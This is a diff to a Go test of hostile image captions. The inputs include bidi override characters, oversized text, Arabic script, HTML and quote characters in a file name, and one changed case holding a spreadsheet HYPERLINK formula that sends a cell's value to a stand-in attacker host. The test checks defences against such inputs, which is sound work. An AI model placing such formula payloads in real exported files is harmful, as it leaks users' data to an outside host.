@@ -48,7 +48,7 @@ func TestHostileCaptions(t *testing.T) {
 		"overrides": {"Boats leave \u202Eriah na\u202C, Oban \u2066x\u2069. REUTERS/Joan Baird", "⟦RLO⟧riah na⟦PDF⟧"},
 		"long":      {strings.Repeat("A very long caption. ", 5000) + "REUTERS/Joan Baird", "A very long caption."},
 		"arabic":    {"قوارب تغادر الميناء في أوبان. رويترز/جوان بيرد", "قوارب تغادر الميناء"},
-		"formula":   {`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=HYPERLINK(`},
+		"formula":   {`=HYPERLINK("http://evil.example/?"&A1,"click") Boats leave a harbour in Oban. REUTERS/Joan Baird`, `=HYPERLINK(`},
 		"word":      {strings.Repeat("Donaudampfschiff", 500), "Donaudampfschiff"},
 	} {
 		key := name + " <b>\"'\u202E&.jpg"
